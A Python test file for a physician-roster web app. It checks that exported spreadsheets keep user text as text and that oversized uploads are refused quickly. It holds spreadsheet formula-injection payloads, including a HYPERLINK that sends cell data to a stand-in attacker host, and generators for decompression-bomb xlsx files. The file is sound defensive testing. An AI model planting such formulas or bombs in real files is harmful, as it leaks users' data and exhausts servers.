"""Spreadsheets in and out (issue #8, points 7 and 8): what users typed is written as text in
every xlsx the system makes, and an uploaded roster is refused by its size before it costs
minutes and hundreds of MB."""
import io
import time
import zipfile
from xml.sax.saxutils import escape

import pytest
from openpyxl import Workbook, load_workbook
from rq import SimpleWorker

from app import jobs
from app.extensions import db
from models import Department, Enrollment, Institution, Physician, StoredFile
from models.roster_import import HEADERS
from tests.conftest import post

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&C3,"详情")'
EVIL_DEPARTMENTS = ['=HYPERLINK("http://evil.example/","x")',
                    'a",HYPERLINK("http://evil.example/"),"b']


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def test_a_physician_named_like_a_formula_stays_a_name_in_the_export(as_role):
    enrollment = db.session.query(Enrollment).join(Physician).filter(
        Physician.name == "王医生").one()
    enrollment.physician.name = EVIL_NAME
    enrollment.physician.department.name = EVIL_DEPARTMENTS[0]
    db.session.commit()
    client = as_role("institution")
    assert post(client, "/enrollmentview/export").status_code == 302
    SimpleWorker([jobs.queue()], connection=jobs.connection()).work(burst=True)
    stored = db.session.query(StoredFile).filter_by(purpose="export").one()

    book = load_workbook(io.BytesIO(client.get(f"/files/{stored.id}").data))
    formulas = [(title, cell.coordinate, cell.value) for title, cell in _cells(book)
                if cell.data_type == "f"]
    assert formulas == []
    texts = {cell.value for _title, cell in _cells(book)}
    assert EVIL_NAME in texts and EVIL_DEPARTMENTS[0] in texts
    assert not any(sheet._hyperlinks for sheet in book.worksheets)


def test_the_roster_template_lists_departments_as_text_not_inside_a_formula(as_role):
    hospital = db.session.query(Institution).filter_by(account="NX1008611").one()
    for name in EVIL_DEPARTMENTS:
        db.session.add(Department(name=name, institution=hospital, enabled=True))
    db.session.commit()

    response = as_role("institution").get("/roster/import/template.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert [c.value for c in book.worksheets[0][1]] == HEADERS
    assert not [cell for _title, cell in _cells(book) if cell.data_type == "f"]
    texts = {cell.value for _title, cell in _cells(book)}
    assert set(EVIL_DEPARTMENTS) <= texts and "内科" in texts
    validations = book.worksheets[0].data_validations.dataValidation
    department_list = next(v for v in validations if "D2" in str(v.sqref))
    for validation in validations:
        assert "HYPERLINK" not in (validation.formula1 or ""), validation.formula1
    # The department drop-down reads its choices from cells of the hidden sheet.
    assert department_list.formula1.startswith("lists!")


# --- resource limits of the roster import (point 8) ---------------------------------------


def _xlsx_with_rows(rows, dimension=True):
    """A valid xlsx with the template's header and ``rows`` rows, the way an attacker writes
    one: the sheet's XML made by hand, compressed to a few hundred KB."""
    book = Workbook()
    book.active.append(list(HEADERS))
    base = io.BytesIO()
    book.save(base)
    columns = "ABCDEFGHIJ"
    header = "".join(f'<c r="{col}1" t="inlineStr"><is><t>{escape(str(text))}</t></is></c>'
                     for col, text in zip(columns, HEADERS))
    body = "<row><c><v>1</v></c></row>" * (rows - 1)
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             + (f'<dimension ref="A1:J{rows}"/>' if dimension else "")
             + f'<sheetData><row r="1">{header}</row>{body}</sheetData></worksheet>')
    out = io.BytesIO()
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in source.infolist():
            data = sheet.encode() if item.filename == "xl/worksheets/sheet1.xml" \
                else source.read(item)
            z.writestr(item.filename, data)
    return out.getvalue()


def _import(client, data):
    token = client.get("/account/password").get_data(as_text=True).split(
        'name="csrf_token" value="')[1].split('"')[0]
    started = time.monotonic()
    response = client.post("/roster/import/", data={
        "csrf_token": token, "file": (io.BytesIO(data), "roster.xlsx")},
        content_type="multipart/form-data")
    return response, time.monotonic() - started


@pytest.mark.parametrize("rows,dimension", [
    (1_000_000, True),   # the file: 1,000,000 rows in a few hundred KB
    (200_000, True),     # refused by the dimension the sheet declares
    (200_000, False),    # no dimension: the reading stops at the limit
])
def test_a_huge_roster_is_refused_at_once(as_role, rows, dimension):
    data = _xlsx_with_rows(rows, dimension)
    assert len(data) < 1024 * 1024
    before = db.session.query(Physician).count()
    response, elapsed = _import(as_role("institution"), data)
    assert response.status_code == 400
    assert "一次最多导入5000名医师" in response.get_data(as_text=True)
    assert elapsed < 3.0, f"took {elapsed:.1f}s"
    assert db.session.query(Physician).count() == before


def test_a_roster_whose_strings_unpack_to_a_huge_size_is_refused_at_once(as_role):
    """3,000,000 shared strings (48 MB of XML in a small file): openpyxl loads them all, in
    read-only mode too, before a single row is read."""
    import xlsxwriter

    base = io.BytesIO()
    book = xlsxwriter.Workbook(base, {"in_memory": True})
    book.add_worksheet().write_row(0, 0, [str(h) for h in HEADERS])
    book.close()
    strings = "".join(f"<si><t>{escape(str(h))}</t></si>" for h in HEADERS) \
        + "<si><t>x</t></si>" * 3_000_000
    table = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns='
             '"http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + strings + "</sst>")
    out = io.BytesIO()
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in source.infolist():
            data = table.encode() if item.filename == "xl/sharedStrings.xml" \
                else source.read(item)
            z.writestr(item.filename, data)
    assert len(out.getvalue()) < 1024 * 1024
    response, elapsed = _import(as_role("institution"), out.getvalue())
    assert response.status_code == 400
    assert "一次最多导入5000名医师" in response.get_data(as_text=True)
    assert elapsed < 3.0, f"took {elapsed:.1f}s"


def test_a_roster_at_the_limit_still_goes_in(as_role):
    """5,000 valid rows are accepted: the guards do not cut the real use."""
    from models.roster_import import MAX_ROWS, read_rows

    book = Workbook()
    book.active.append(list(HEADERS))
    for n in range(MAX_ROWS):
        book.active.append([f"医师{n}", "", "男", "内科", "临床", "执业医师"])
    out = io.BytesIO()
    book.save(out)
    assert len(read_rows(out.getvalue())) == MAX_ROWS
